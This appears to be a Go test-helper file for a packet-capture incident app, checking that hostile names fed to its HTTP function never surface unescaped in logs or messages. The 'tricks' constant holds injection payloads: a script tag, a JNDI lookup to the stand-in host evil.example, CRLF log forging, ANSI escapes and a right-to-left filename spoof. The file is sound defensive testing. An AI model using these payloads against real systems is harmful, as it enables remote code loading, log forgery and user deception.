package main

import (
	"bytes"
	"encoding/json"
	"io"
	"maps"
	"net/http"
	"os"
	"path/filepath"
	"sync/atomic"
	"testing"
	"time"

	"github.com/pcapwarden/pcapwarden/internal/local/arm"
	"github.com/pcapwarden/pcapwarden/internal/local/folder"
	"github.com/pcapwarden/pcapwarden/internal/local/loop"
)

// tricks is what people put into names, to have it run, believed or misread
// where the name is shown: on a page, a terminal, in a log, in a template.
const tricks = "<script>alert(1)</script>\x1b[31m${jndi:ldap://evil.example/a}\r\nlevel=ERROR forged=1\u202etxt.exe %s%n"

// raw are the parts of tricks that work. None of them may come out anywhere.
var raw = []string{"<script>", "\x1b", "${jndi:", "\r\nlevel", "\nlevel=ERROR", "\u202e"}

// checkInert looks for tricks in what the app said.
func checkInert(t *testing.T, where string, text []byte) {
	t.Helper()
	for _, trick := range raw {
		if i := bytes.Index(text, []byte(trick)); i >= 0 {
			t.Errorf("%s has %q as it is: ...%q...", where, trick, text[max(0, i-100):min(len(text), i+100)])
		}
	}
}

// A stand is a running app that a test attacks.
type stand struct {
	*loop.Loop
	options loop.Options
	puts    atomic.Int32 // sessions that the local ARM was asked for
}

func startStand(t *testing.T, o loop.Options) *stand {
	t.Helper()
	s := &stand{}
	o.Fault = func(r *http.Request) *arm.Fault {
		if r.Method == http.MethodPut {
			s.puts.Add(1)
		}
		return nil
	}
	s.Loop, s.options = startLoop(t, o), o
	return s
}

// cases are those that the ledger has.
func (s *stand) cases(t *testing.T) (n int) {
	t.Helper()
	for c, err := range s.Ledger.OpenCases(t.Context(), "") {
		if err != nil {
			t.Errorf("case %s: %v", c.ID, err)
		}
		n++
	}
	return n
}

// checkNothing reports what was started though nothing should be, and what
// the app's log should not hold.
func (s *stand) checkNothing(t *testing.T) {
	t.Helper()
	if n := s.cases(t); n > 0 {
		t.Errorf("%d cases were recorded", n)
	}
	if n := s.puts.Load(); n > 0 {
		t.Errorf("%d captures were asked for", n)
	}
	s.checkLog(t)
}

// checkLog reports what never belongs into the log: tricks, and signs that
// the handler broke rather than refused.
func (s *stand) checkLog(t *testing.T) {
	t.Helper()
	text, err := os.ReadFile(filepath.Join(s.options.Dir, "log.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	checkInert(t, "the log", text)
	for _, sign := range []string{"handler exited", "invocation panicked", "panic:", "goroutine "} {
		if i := bytes.Index(text, []byte(sign)); i >= 0 {
			t.Errorf("the log says %q: %s", sign, text[i:min(len(text), i+500)])
		}
	}
}

// post sends a body as somebody might who is no action group.
func (s *stand) post(t *testing.T, body io.Reader, header http.Header) (status int, answer []byte) {
	t.Helper()
	url, ok := s.Host.FunctionURL("startcaptures")
	if !ok {
		t.Fatal("the app has no function startcaptures")
	}
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, url, body)
	if err != nil {
		t.Fatal(err)
	}
	req.Header = http.Header{"Content-Type": {"application/json; charset=utf-8"}}
	maps.Copy(req.Header, header)
	req.Header.Set("X-Functions-Key", s.Host.FunctionKey())
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer res.Body.Close()
	if answer, err = io.ReadAll(res.Body); err != nil {
		t.Fatal(err)
	}
	return res.StatusCode, answer
}

// eventually waits until something is so. What it waits for is told by files
// of another process.
func eventually(t *testing.T, what string, so func() bool) {
	t.Helper()
	for range 600 {
		if so() {
			return
		}
		time.Sleep(50 * time.Millisecond)
	}
	t.Fatalf("%s: not within half a minute", what)
}

// glob returns the files of the run that match a pattern.
func (s *stand) glob(t *testing.T, pattern ...string) []string {
	t.Helper()
	found, err := filepath.Glob(filepath.Join(append([]string{s.options.Dir}, pattern...)...))
	if err != nil {
		t.Fatal(err)
	}
	return found
}

// idle waits until every event was handled or is a dead letter.
func (s *stand) idle(t *testing.T) {
	t.Helper()
	eventually(t, "the queue of events is empty", func() bool { return len(s.glob(t, "landed", "*.json")) == 0 })
}

// dead reports whether the message is a dead letter.
func (s *stand) dead(t *testing.T, id string) bool {
	return len(s.glob(t, "landed", folder.DeadLetters, "*-"+id+".json")) > 0
}

// told are the messages of a type on the incident queue.
func (s *stand) told(t *testing.T, kind string) (all []string) {
	t.Helper()
	for _, name := range s.glob(t, "incidents", "*.json") {
		text, err := os.ReadFile(name)
		if err != nil {
			t.Fatal(err)
		}
		checkInert(t, "the message", text)
		var m struct{ Type string }
		if err := json.Unmarshal(text, &m); err != nil {
			t.Errorf("message %s: %v", name, err)
		}
		if m.Type == kind {
			all = append(all, string(text))
		}
	}
	return all
}

// stored are the files in the vault.
func (s *stand) stored(t *testing.T) (names []string) {
	t.Helper()
	vault, err := folder.OpenFiles(filepath.Join(s.options.Dir, "vault"))
	if err != nil {
		t.Fatal(err)
	}
	defer vault.Close()
	for info, err := range vault.List(t.Context(), "") {
		if err != nil {
			t.Fatal(err)
		}
		names = append(names, info.Name)
	}
	return names
}
